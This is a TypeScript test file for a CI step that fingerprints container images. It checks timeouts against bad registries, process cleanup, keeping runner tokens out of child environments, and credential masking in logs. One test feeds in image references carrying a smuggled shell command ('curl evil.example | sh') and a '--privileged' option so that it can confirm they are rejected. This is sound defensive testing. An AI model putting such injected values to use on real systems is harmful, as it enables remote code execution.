// Fingerprints of images as whole steps: invalid and endless responses of registries, the environment of child
// processes, and the redaction of credentials.
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import {
  startRegistry,
  manifestBody,
  manifestType,
  type RegistryBehaviour,
} from "../../artifacts/images/fake-registry.ts";
import { isRunning } from "../../lib/running.ts";
import { newFolder, runStep, type Inputs, type Step, type StepOptions } from "../step.ts";

const digest = "d".repeat(64);
const user = { name: "ada", password: "s3cr3t+pass/word" };
const inBase64 = Buffer.from(`${user.name}:${user.password}`).toString("base64");

/** Fingerprints an image of a registry. */
const fingerprint = (host: string, inputs: Inputs = {}, options: StepOptions = {}) =>
  runStep(
    { operation: "fingerprint", "artifact-type": "oci", artifacts: `${host}/acme/app:v1`, ...inputs },
    options,
  );

/** A HOME with docker's configuration, and a folder for programs in front of the PATH. */
function machine(configuration: object, programs: Readonly<Record<string, string>> = {}) {
  const home = newFolder();
  mkdirSync(join(home, ".docker"));
  writeFileSync(join(home, ".docker", "config.json"), JSON.stringify(configuration));
  mkdirSync(join(home, "bin"));
  for (const [name, script] of Object.entries(programs))
    writeFileSync(join(home, "bin", name), `#!/bin/sh\n${script}\n`, { mode: 0o755 });
  return { home, environment: { HOME: home, PATH: `${join(home, "bin")}:${process.env["PATH"] ?? ""}` } };
}

/** Everything that a step writes, without the commands that mask secrets in the log. */
const writtenBy = ({ log, summary, outputs, standardError }: Step) =>
  [log.replace(/^::add-mask::.*$/gm, ""), summary, JSON.stringify(outputs), standardError].join("\n");

const masksOf = ({ log }: Step) => [...log.matchAll(/^::add-mask::(.*)$/gm)].map(([, mask]) => mask);

describe("a registry", () => {
  test.each<[string, Record<string, string>]>([
    ["a login page", { "content-type": "text/html" }],
    [
      "a login page with a digest",
      { "content-type": "text/html", "docker-content-digest": `sha256:${digest}` },
    ],
    ["a login page that is called a manifest", { "content-type": manifestType }],
  ])("that answers with %s gives no fingerprint and no image", async (_, headers) => {
    await using registry = await startRegistry({
      instead: (_request, response) => {
        response.writeHead(200, headers).end("<html>Please log in</html>");
        return true;
      },
    });
    const step = await fingerprint(registry.host);
    expect(step.exitCode).toBe(1);
    expect(step.outputs).not.toHaveProperty("fingerprint");
    expect(step.outputs).not.toHaveProperty("image");
    expect(step.errors).toEqual([expect.stringMatching(/is not valid/)]);
  });

  test("that cannot be reached is not reported as a wrong configuration", async () => {
    const step = await fingerprint("127.0.0.1:1", { retries: "1" });
    expect(step.exitCode).toBe(1);
    expect(step.errors).toEqual([
      expect.stringMatching(
        /^The registry at `127\.0\.0\.1:1` refused the connection \(ECONNREFUSED\)[^]*the image's name/,
      ),
    ]);
    expect(step.log).toMatch(/[A-Z]+ https:\/\/127\.0\.0\.1:1\/v2\/\S+ failed \(2 attempts in /);
    expect(step.log).toContain("::error title=No image digest from the registry");
    expect(step.log + step.summary).not.toMatch(/wrong configuration/i);
  });

  test("that sends its response byte by byte is aborted after `timeout`", async () => {
    await using registry = await startRegistry({
      instead: (_request, response) => {
        response.writeHead(200, { "content-type": manifestType });
        const timer = setInterval(() => response.write(" "), 100);
        response.on("close", () => {
          clearInterval(timer);
        });
        return true;
      },
    });
    const before = performance.now();
    const step = await fingerprint(registry.host, { timeout: "2s" });
    expect(performance.now() - before).toBeLessThan(20_000);
    expect(step).toMatchObject({ exitCode: 1, warnings: [] });
    expect(step.errors).toEqual([expect.stringMatching(/within the time limit of 2 s[^]*`timeout`/)]);
  });

  test("with a Retry-After longer than `timeout` ends the step at once", async () => {
    await using registry = await startRegistry({
      instead: (_request, response) => {
        response.writeHead(429, { "retry-after": "3600" }).end();
        return true;
      },
    });
    const step = await fingerprint(registry.host);
    expect(step.errors).toEqual([expect.stringMatching(/HTTP 429[^]*after 3600 s, as the registry asks/)]);
  });
});

describe.skipIf(process.platform === "win32")("a program that ignores SIGTERM and starts another:", () => {
  /** The id of the other process is in the file `started` of the HOME. */
  const stubborn = `trap '' TERM; sleep 300 & echo $! > "$HOME/new"; mv "$HOME/new" "$HOME/started"; wait; wait`;
  const programs = { "docker-credential-test": stubborn, docker: stubborn };
  const isStarted = (home: string) => existsSync(join(home, "started"));
  const isOtherRunning = (home: string) => isRunning(Number(readFileSync(join(home, "started"), "utf8")));

  test.each<[string, Inputs, object]>([
    ["a credential helper", { "artifact-type": "oci" }, { credsStore: "test" }],
    ["docker", { "artifact-type": "docker" }, {}],
  ])("%s keeps `check` no longer than `timeout`", async (_, type, configuration) => {
    await using registry = await startRegistry({ wants: "basic", user });
    const { home, environment } = machine(configuration, programs);
    const service = { "base-url": "http://127.0.0.1:1/api/v2", org: "acme", "api-token": "canary-api" };
    const artifacts = `${registry.host}/acme/app:v1`;
    const check = { operation: "check", artifacts, retries: "0", timeout: "3" };
    const before = performance.now();
    const step = await runStep({ ...service, ...check, ...type }, { environment });
    expect(performance.now() - before).toBeLessThan(30_000);
    expect(step.exitCode).toBe(1);
    expect(isStarted(home)).toBe(true);
    await expect.poll(() => isOtherRunning(home)).toBe(false);
  });

  test("a cancelled job ends both", async () => {
    await using registry = await startRegistry({ wants: "basic", user });
    const { home, environment } = machine({ credsStore: "test" }, programs);
    const whileRunning: StepOptions["whileRunning"] = async ({ signal }) => {
      await expect.poll(() => isStarted(home), { timeout: 30_000 }).toBe(true);
      signal("SIGTERM");
    };
    const step = await fingerprint(registry.host, {}, { environment, whileRunning });
    expect(step).toMatchObject({ exitCode: 1, errors: [expect.stringContaining("cancelled")] });
    await expect.poll(() => isOtherRunning(home)).toBe(false);
  });
});

describe("the output `image` of artifacts that another job fingerprinted", () => {
  const artifact = { filename: "app", type: "oci", fingerprint: digest };
  const fingerprintFromFile = (reference: string, type = "oci") => {
    const workspace = newFolder();
    const artifacts = [{ ...artifact, type, reference }];
    writeFileSync(join(workspace, "images.json"), JSON.stringify({ version: 1, artifacts }));
    return runStep({ operation: "fingerprint", "artifacts-from": "images.json" }, { workspace });
  };

  test("is the image by its digest", async () => {
    const { exitCode, outputs } = await fingerprintFromFile(`ghcr.io/acme/app@sha256:${digest}`);
    expect({ exitCode, image: outputs["image"] }).toEqual({
      exitCode: 0,
      image: `ghcr.io/acme/app@sha256:${digest}`,
    });
  });

  test.each([
    ["a command", `x; curl evil.example | sh #@sha256:${digest}`],
    ["an option", `--privileged ghcr.io/acme/app@sha256:${digest}`],
    ["two images", `ghcr.io/evil/app:v1 ghcr.io/acme/app@sha256:${digest}`],
    ["two lines", `ghcr.io/evil/app:v1\nghcr.io/acme/app@sha256:${digest}`],
    ["no image", `@sha256:${digest}`],
  ])("is never %s: such a reference is an error that names the file", async (_, reference) => {
    const step = await fingerprintFromFile(reference);
    expect(step.exitCode).toBe(1);
    expect(step.outputs).not.toHaveProperty("image");
    expect(step.errors).toEqual([expect.stringContaining("images.json")]);
  });

  test("is not set for a file: a reference of a file is an error", async () => {
    const step = await fingerprintFromFile(`ghcr.io/acme/app@sha256:${digest}`, "file");
    expect(step).toMatchObject({ exitCode: 1, errors: [expect.stringContaining("images.json") as string] });
    expect(step.outputs).not.toHaveProperty("image");
  });
});

describe("a child process gets no inputs and no tokens of the runner:", () => {
  const secrets = {
    ACTIONS_RUNTIME_TOKEN: "canary-runtime",
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: "canary-oidc",
    GITHUB_TOKEN: "canary-github",
    GH_TOKEN: "canary-gh",
  };
  const inputs = { "api-token": "canary-api", "github-token": "canary-input" };
  /** Returns a script that writes its environment to a file. */
  const recordEnvironment = (then: string) => `env > "$HOME/seen"; ${then}`;
  const seenIn = (home: string) => readFileSync(join(home, "seen"), "utf8");

  test("docker", async () => {
    const httpResult = JSON.stringify([
      { Id: "sha256:1", RepoDigests: [`ghcr.io/acme/app@sha256:${digest}`] },
    ]);
    const { home, environment } = machine({}, { docker: recordEnvironment(`echo '${httpResult}'`) });
    const step = await fingerprint(
      "ghcr.io",
      { ...inputs, "artifact-type": "docker" },
      { environment: { ...environment, ...secrets, DOCKER_HOST: "unix:///engine" } },
    );
    expect(step).toMatchObject({ exitCode: 0, outputs: { fingerprint: digest } });
    expect(seenIn(home)).not.toMatch(/canary|^INPUT_|^ACTIONS_/m);
    expect(seenIn(home)).toMatch(/^DOCKER_HOST=unix:\/\/\/engine$/m);
  });

  test("a credential helper", async () => {
    const credential = JSON.stringify({ Username: user.name, Secret: user.password });
    const { home, environment } = machine(
      { credsStore: "test" },
      { "docker-credential-test": recordEnvironment(`cat > /dev/null; echo '${credential}'`) },
    );
    await using registry = await startRegistry({
      ...{ wants: "basic", user },
      manifests: { "acme/app/v1": { type: manifestType, body: manifestBody } },
    });
    const step = await fingerprint(registry.host, inputs, { environment: { ...environment, ...secrets } });
    expect(step.exitCode).toBe(0);
    expect(seenIn(home)).not.toMatch(/canary|^INPUT_|^ACTIONS_/m);
    expect(seenIn(home)).toMatch(/^PATH=/m);
  });

  test("git", async () => {
    const { home, environment } = machine({}, { git: recordEnvironment("exit 1") });
    const workspace = newFolder();
    mkdirSync(join(workspace, ".git"));
    await runStep(
      {
        ...inputs,
        ...{ operation: "begin-trail", "base-url": "http://127.0.0.1:9/api/v2", org: "acme", flow: "shop" },
        ...{ "dry-run": "true" },
      },
      { workspace, environment: { ...environment, ...secrets } },
    );
    expect(seenIn(home)).not.toMatch(/canary|^INPUT_|^ACTIONS_/m);
    expect(seenIn(home)).toMatch(/^HOME=/m);
  });
});

describe("a credential is masked, and not shown when a registry echoes it:", () => {
  const debugging = { RUNNER_DEBUG: "1" };

  /** Starts a registry that repeats the credential of a request in an error. */
  const startEchoRegistry = (wants: "basic" | "bearer", behaviour: RegistryBehaviour = {}) =>
    startRegistry({
      wants,
      ...behaviour,
      instead: (request, response) => {
        const { authorization } = request.headers;
        if (authorization === undefined || request.url?.startsWith("/token") === true) return false;
        const decoded = Buffer.from(authorization.replace(/^Basic /, ""), "base64").toString();
        const message = `refused ${authorization} ${decoded} ${decoded.slice(decoded.indexOf(":") + 1)}`;
        response.writeHead(400);
        response.end(JSON.stringify({ errors: [{ code: "X", message }] }));
        return true;
      },
    });

  test.each<[string, (host: string) => object, Readonly<Record<string, string>>]>([
    ["a password of docker's configuration", (host) => ({ auths: { [host]: { auth: inBase64 } } }), {}],
    [
      "a password of a credential helper",
      () => ({ credsStore: "test" }),
      {
        "docker-credential-test": `cat > /dev/null; echo '${JSON.stringify({ Username: user.name, Secret: user.password })}'`,
      },
    ],
  ])("%s", async (_, configuration, programs) => {
    await using registry = await startEchoRegistry("basic");
    const { environment } = machine(configuration(registry.host), programs);
    const step = await fingerprint(registry.host, {}, { environment: { ...environment, ...debugging } });
    expect(step).toMatchObject({ exitCode: 1, errors: [expect.stringMatching(/refused Basic \*\*\*/)] });
    expect(masksOf(step)).toEqual(expect.arrayContaining([user.password, inBase64]));
    expect(writtenBy(step)).not.toContain(user.password);
    expect(writtenBy(step)).not.toContain(inBase64);
  });

  test("a token of a token server", async () => {
    const token = "eyJ0b2tlbiI6ImNhbmFyeSJ9.c2lnbmF0dXJl";
    await using registry = await startEchoRegistry("bearer", {
      tokenAnswer: { status: 200, body: JSON.stringify({ token }) },
    });
    const step = await fingerprint(registry.host, {}, { environment: debugging });
    expect(step).toMatchObject({ exitCode: 1, errors: [expect.stringMatching(/refused Bearer \*\*\*/)] });
    expect(masksOf(step)).toContain(token);
    expect(writtenBy(step)).not.toContain(token);
  });

  test("an identity token, as it is sent to a token server", async () => {
    const identityToken = "refresh/me +please=";
    let body = "";
    await using registry = await startRegistry({
      wants: "bearer",
      instead: (request, response) => {
        if (request.method === "POST") {
          request.on("data", (piece: Buffer) => {
            body += piece.toString();
          });
          request.on("end", () => response.end(JSON.stringify({ token: "t0k3n" })));
          return true;
        }
        if (request.headers.authorization === undefined) return false;
        response.writeHead(400);
        response.end(JSON.stringify({ errors: [{ code: "X", message: `refused ${body}` }] }));
        return true;
      },
    });
    const { environment } = machine({ auths: { [registry.host]: { identitytoken: identityToken } } });
    const step = await fingerprint(registry.host, {}, { environment: { ...environment, ...debugging } });
    expect(step).toMatchObject({ exitCode: 1, errors: [expect.stringContaining("refresh_token=***")] });
    expect(masksOf(step)).toContain(identityToken);
    expect(writtenBy(step)).not.toContain("refresh%2Fme");
  });

  test("a password in two forms alone: plain, and as it is sent", async () => {
    await using registry = await startRegistry({
      ...{ wants: "basic", user },
      manifests: { "acme/app/v1": { type: manifestType, body: manifestBody } },
    });
    const { environment } = machine({ auths: { [registry.host]: { auth: inBase64 } } });
    const step = await fingerprint(registry.host, {}, { environment });
    expect(step.exitCode).toBe(0);
    expect(masksOf(step)).toEqual([inBase64, user.password]);
  });

  test("a helper that prints a secret and fails", async () => {
    await using registry = await startRegistry({ wants: "basic", user });
    const print = `cat > /dev/null; echo '{"Secret":"${user.password}"'; echo 'bad ${user.password}' >&2; exit 1`;
    const { environment } = machine({ credsStore: "test" }, { "docker-credential-test": print });
    const step = await fingerprint(registry.host, {}, { environment: { ...environment, ...debugging } });
    expect(step).toMatchObject({
      exitCode: 1,
      errors: [expect.stringMatching(/docker-credential-test.*exit code 1/)],
    });
    expect(writtenBy(step)).not.toContain(user.password);
  });
});

describe("a registry whose token server gives", () => {
  const manifest = { type: manifestType, body: manifestBody };
  const manifestDigest = createHash("sha256").update(manifestBody).digest("hex");
  const fingerprintWith = async (token: string) => {
    await using registry = await startRegistry({
      wants: "bearer",
      manifests: { "acme/app/v1": manifest },
      token,
    });
    const step = await fingerprint(registry.host);
    return { step, host: registry.host };
  };

  test.each([
    ["a letter", "e"],
    ["the digest", manifestDigest],
    ["a part of the digest", manifestDigest.slice(3, 20)],
    ["the digest with its algorithm", `sha256:${manifestDigest}`],
    ["a part of the image's name", "acme/app"],
    ["a word of the action", "fingerprint"],
  ])("%s as token changes no output and no line of the log", async (_, token) => {
    const { step, host } = await fingerprintWith(token);
    expect(step).toMatchObject({ exitCode: 0, errors: [] });
    expect(step.outputs).toMatchObject({
      fingerprint: manifestDigest,
      image: `${host}/acme/app@sha256:${manifestDigest}`,
    });
    expect(step.log).not.toMatch(/::add-mask::|\*\*\*/);
  });

  test("a token over 8 KiB is refused, and its text is nowhere", async () => {
    const { step } = await fingerprintWith("t0k3n".repeat(800_000));
    expect(step).toMatchObject({ exitCode: 1, errors: [expect.stringContaining("longer than 8 KiB")] });
    expect(step.log + step.summary).not.toContain("t0k3n");
  });
});

test("a password of docker's configuration over 8 KiB is refused, and its text is nowhere", async () => {
  await using registry = await startRegistry({ wants: "basic", user });
  const auth = Buffer.from(`ada:${"s3cr3t".repeat(2000)}`).toString("base64");
  const { environment } = machine({ auths: { [registry.host]: { auth } } });
  const step = await fingerprint(registry.host, {}, { environment });
  expect(step).toMatchObject({
    exitCode: 1,
    errors: [expect.stringMatching(/longer than 8 KiB.*config\.json/)],
  });
  expect(step.log + step.summary).not.toContain("s3cr3t");
});

test("a reference that contains a given password is in no output, and a warning says why", async () => {
  await using registry = await startRegistry({
    manifests: { "acme/app/v1": { type: manifestType, body: manifestBody } },
  });
  const step = await fingerprint(registry.host, {
    artifacts: `app=${registry.host}/acme/app:v1`,
    "registry-username": "ada",
    "registry-password": "acme",
  });
  expect(step).toMatchObject({ exitCode: 0, errors: [] });
  expect(step.warnings).toEqual([
    expect.stringContaining("image reference of `app` contains a secret of this step"),
  ]);
  expect(step.outputs).not.toHaveProperty("image");
  const list = readFileSync(step.outputs["artifacts-file"] ?? "", "utf8");
  expect(list).not.toContain("reference");
  expect(step.outputs["artifacts"]).not.toContain("reference");
  expect(step.outputs["fingerprint"]).toMatch(/^[0-9a-f]{64}$/);
});
